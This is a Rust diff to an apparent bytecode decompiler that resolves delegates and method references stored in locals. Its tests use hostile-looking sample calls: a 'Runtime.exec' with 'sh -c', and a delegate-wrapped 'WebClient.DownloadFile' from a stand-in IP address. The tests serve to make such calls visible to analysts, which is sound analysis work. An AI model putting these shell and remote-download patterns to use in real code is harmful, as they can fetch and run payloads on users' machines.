@@ -192,6 +192,9 @@ pub(crate) struct Machine<'v> {
     /// The stack at the targets of forward jumps: a jump over nothing, or over the
     /// other arm of a condition, must not part a call from its arguments.
     carried: HashMap<usize, Vec<Value>>,
+    /// The last value stored in each local or field of the method: a delegate or lambda
+    /// kept there and invoked later is shown as the call of the method it stands for.
+    stored: HashMap<String, Value>,
 }
 
 impl<'v> Machine<'v> {
@@ -200,6 +203,37 @@ impl<'v> Machine<'v> {
             stack: Vec::new(),
             view,
             carried: HashMap::new(),
+            stored: HashMap::new(),
+        }
+    }
+
+    /// Stores the top operand in a local or field, written as an assignment.
+    pub(crate) fn store(&mut self, place: String) {
+        let value = self.pop();
+        self.statement(&format!("{place} = "), &value);
+        if self.stored.len() < MAX_JUMPS || self.stored.contains_key(&place) {
+            self.stored.insert(place, value);
+        }
+    }
+
+    /// The method a delegate or functional object stands for: a method reference, or
+    /// a delegate constructed over one (`new Action(obj, &Type.Method)`), directly or
+    /// through the local or field it was stored in.
+    fn referenced_method(&self, value: &Value) -> Option<String> {
+        let value = match &value.expr {
+            Expr::Name(place) => self.stored.get(place)?,
+            _ => value,
+        };
+        let Expr::Call { target, args, .. } = &value.expr else {
+            return None;
+        };
+        let is_reference = |args: &[Value]| matches!(args, [only] if matches!(&only.expr, Expr::Name(n) if n == "<ref>"));
+        if is_reference(args) {
+            return Some(target.clone());
+        }
+        match args.last().map(|last| &last.expr) {
+            Some(Expr::Call { target, args, .. }) if is_reference(args) => Some(target.clone()),
+            _ => None,
         }
     }
 
@@ -339,9 +373,45 @@ impl<'v> Machine<'v> {
     pub(crate) fn call(&mut self, target: String, params: usize, has_this: bool, returns: bool) {
         let args = self.pop_n(params);
         let args = self.shallow_all(args);
+        let mut target = target;
         if has_this {
             let receiver = self.pop();
-            if !receiver.is_pending_allocation() {
+            // Invoking a delegate or a functional interface calls the method it holds.
+            let invocation = target.rsplit('.').next().is_some_and(|name| {
+                matches!(
+                    name,
+                    "Invoke"
+                        | "BeginInvoke"
+                        | "DynamicInvoke"
+                        | "apply"
+                        | "accept"
+                        | "run"
+                        | "call"
+                        | "get"
+                        | "test"
+                )
+            });
+            if let Some(method) = invocation
+                .then(|| self.referenced_method(&receiver))
+                .flatten()
+            {
+                // A constructor reference (`URL::new`) builds an object.
+                if let Some(class) = method
+                    .strip_suffix(".<init>")
+                    .or_else(|| method.strip_suffix("..ctor"))
+                {
+                    self.push_or_state(
+                        Node::new(Expr::Call {
+                            target: class.to_string(),
+                            constructor: true,
+                            args,
+                        }),
+                        returns,
+                    );
+                    return;
+                }
+                target = method;
+            } else if !receiver.is_pending_allocation() {
                 self.statement("", &receiver);
             }
         }
@@ -350,6 +420,11 @@ impl<'v> Machine<'v> {
             constructor: false,
             args,
         });
+        self.push_or_state(call, returns);
+    }
+
+    /// A call's result is an operand; without one, the call is a statement.
+    fn push_or_state(&mut self, call: Value, returns: bool) {
         if returns {
             self.push(call);
         } else {
@@ -516,6 +591,27 @@ mod tests {
         assert_eq!(
             view.text,
             "java.lang.Runtime.exec(new[] {\"sh\", \"-c\"})\n"
+        );
+    }
+
+    #[test]
+    fn a_delegate_invoked_through_a_local_calls_its_method() {
+        let mut view = View::new(Format::DotNet);
+        let mut m = Machine::new(&mut view);
+        m.push(name("loc1"));
+        m.method_ref("System.Net.WebClient.DownloadFile".into());
+        m.construct("System.Action`2".into(), 2);
+        m.store("loc2".into());
+        m.push(name("loc2"));
+        m.push(literal("\"http://203.0.113.9/x\"".into()));
+        m.push(name("loc0"));
+        m.call("System.Action`2.Invoke".into(), 2, true, false);
+        m.finish();
+        assert!(
+            view.text
+                .ends_with("System.Net.WebClient.DownloadFile(\"http://203.0.113.9/x\", loc0)\n"),
+            "{}",
+            view.text
         );
     }
 
